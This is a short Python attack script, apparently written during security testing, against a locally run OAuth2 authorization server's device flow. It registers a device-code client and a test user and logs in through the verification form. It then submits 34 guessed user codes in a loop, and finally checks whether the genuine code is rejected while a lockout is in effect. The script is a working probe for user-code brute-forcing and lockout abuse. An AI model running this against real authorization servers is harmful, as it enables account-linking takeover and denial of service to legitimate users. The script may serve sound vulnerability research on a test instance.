import sys, re, html; sys.path.insert(0,"/tmp/attack")
import h; h.A="http://127.0.0.1:9605"; h.ADM=h.admin(h.A); h.H={"X-Auth-Token":h.ADM}
from h import *
A=h.A
dc,_=mkclient({"name":"TV","type":"public","grant_types":["urn:ietf:params:oauth:grant-type:device_code"],"scope":["foo.read"]},A)
uid,name,pw=mkuser()
d=S.post(A+"/oauth2/device_authorization",data={"client_id":dc}).json()
s=requests.Session(); r=s.get(A+"/oauth2/device")
form={k:html.unescape(v) for k,v in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"',r.text)}; form.update(username=name,password=pw)
r=s.post(A+"/oauth2/device",data=form)
csrf=re.search(r'name="csrf" value="([^"]+)"',r.text).group(1)
codes=[]
for i in range(34):
    r=s.post(A+"/oauth2/device",data={"csrf":csrf,"user_code":"BBBB-%04d"%i}); codes.append(r.status_code)
    m=re.search(r'name="csrf" value="([^"]+)"',r.text); csrf=m.group(1) if m else csrf
print(codes)
r=s.post(A+"/oauth2/device",data={"csrf":csrf,"user_code":d["user_code"]}); print("right code while held:", r.status_code, r.headers.get("Retry-After"))
